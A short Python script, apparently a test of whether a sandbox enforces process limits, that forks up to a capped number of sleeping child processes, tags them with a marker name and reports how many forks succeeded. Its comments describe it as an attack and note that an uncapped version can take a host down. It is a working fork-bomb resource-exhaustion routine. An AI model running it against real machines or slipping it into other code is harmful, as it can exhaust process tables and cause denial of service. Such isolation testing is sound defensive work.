# Attack: fork until the machine runs out of processes.
# A broken jail (no pids cgroup, or a per-uid RLIMIT_NPROC that does not hold in a user
# namespace) would let this reach its own cap of MAX children, each a sleeping process that
# outlives the main one; on a machine with pid_max 32768 an uncapped version takes the host down.
# Usage: fork_bomb.py MARKER [MAX]   prints {"ev": "forks", "n": N, "errno": E}, then exits 0.
import ctypes
import json
import os
import sys
import time


def emit(**record):
    print(json.dumps(record), flush=True)


def name_self(marker):
    """Makes the process findable on the host by its name as well as by its argv."""
    try:
        ctypes.CDLL(None).prctl(15, marker.encode()[:15], 0, 0, 0)  # PR_SET_NAME
    except Exception:  # noqa: BLE001 - best effort
        pass


def main():
    marker = sys.argv[1]
    cap = int(sys.argv[2]) if len(sys.argv) > 2 else 2000
    emit(ev="start")
    n, errno = 0, None
    while n < cap:
        try:
            pid = os.fork()
        except OSError as e:
            errno = e.errno
            break
        if pid == 0:
            name_self(marker)
            time.sleep(300)
            os._exit(0)
        n += 1
    emit(ev="forks", n=n, errno=errno)
    emit(ev="done")


main()
